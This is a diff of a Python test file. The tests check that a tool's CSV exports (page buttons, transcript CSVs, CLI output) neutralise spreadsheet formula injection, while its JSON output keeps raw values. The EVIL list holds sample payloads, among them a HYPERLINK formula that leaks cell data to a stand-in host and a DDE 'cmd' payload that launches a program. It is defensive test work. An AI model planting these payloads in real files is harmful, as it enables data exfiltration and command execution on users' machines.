@@ -1,6 +1,7 @@
 """CSV exports neutralise spreadsheet formulas (OWASP CSV injection: text cells starting with = + - @
 tab CR get a leading '), in the page's export buttons, the transcript/fill-mask CSVs and the CLI's
 --out x.csv; JSON keeps the raw value."""
+
 import csv
 import io
 import json
@@ -10,8 +11,8 @@ import pytest
 
 import ui.common as common
 from llmviz.cli import main
+from llmviz.generation.transcript import rows_csv
 from llmviz.report import frame_csv, neutralise_cell, safe_comment
-from llmviz.transcript import rows_csv
 
 EVIL = ['=HYPERLINK("http://x/?leak="&A1,"click")', "+cmd|' /C calc'!A0", "@SUM(1)", "-2+3", "\t=1", "\r=1"]
 
@@ -58,8 +59,7 @@ def test_row_csvs_neutralise_rows_and_provenance_lines():
     text = rows_csv([{"token": v, "p": 0.5} for v in EVIL], {"text": 'a, =HYPERLINK("http://x"), b', "model": "m"})
     lines = text.splitlines()
     assert all(not cell.lstrip(" ").startswith(("=", "+", "-", "@")) for cell in lines[0].split(","))
-    body = [r for r in _cells("\n".join(ln for ln in text.split("\n") if not ln.startswith("#")))
-            if r]
+    body = [r for r in _cells("\n".join(ln for ln in text.split("\n") if not ln.startswith("#"))) if r]
     assert [r[0] for r in body[1:]] == ["'" + v for v in EVIL]
     assert safe_comment("# text: a,=1,b") == "# text: a,'=1,b"
 
@@ -67,17 +67,38 @@ def test_row_csvs_neutralise_rows_and_provenance_lines():
 @pytest.fixture
 def evil_csv(tmp_path):
     path = tmp_path / "evil.csv"
-    pd.DataFrame({"sent_more": [EVIL[0], EVIL[1], "The man was strong."],
-                  "sent_less": ["The woman left.", EVIL[2], "The woman was strong."],
-                  "stereo_antistereo": ["stereo", "stereo", "antistereo"],
-                  "bias_type": ["gender", "gender", "gender"]}).to_csv(path, index=False)
+    pd.DataFrame(
+        {
+            "sent_more": [EVIL[0], EVIL[1], "The man was strong."],
+            "sent_less": ["The woman left.", EVIL[2], "The woman was strong."],
+            "stereo_antistereo": ["stereo", "stereo", "antistereo"],
+            "bias_type": ["gender", "gender", "gender"],
+        }
+    ).to_csv(path, index=False)
     return path
 
 
 def test_cli_csv_out_neutralises_and_json_keeps_raw(tiny_mlm_dir, evil_csv, tmp_path):
     out_csv, out_json = tmp_path / "r.csv", tmp_path / "r.json"
-    assert main(["bias-audit", "--model", str(tiny_mlm_dir), "--pairs", str(evil_csv), "--out", str(out_csv),
-                 "--out", str(out_json), "--n-boot", "100", "--quiet"]) == 0
+    assert (
+        main(
+            [
+                "bias-audit",
+                "--model",
+                str(tiny_mlm_dir),
+                "--pairs",
+                str(evil_csv),
+                "--out",
+                str(out_csv),
+                "--out",
+                str(out_json),
+                "--n-boot",
+                "100",
+                "--quiet",
+            ]
+        )
+        == 0
+    )
     rows = _cells(out_csv.read_text(encoding="utf-8"))
     assert rows[1][0] == "'" + EVIL[0] and rows[2][0] == "'" + EVIL[1] and rows[2][1] == "'" + EVIL[2]
     assert rows[3][0] == "The man was strong."
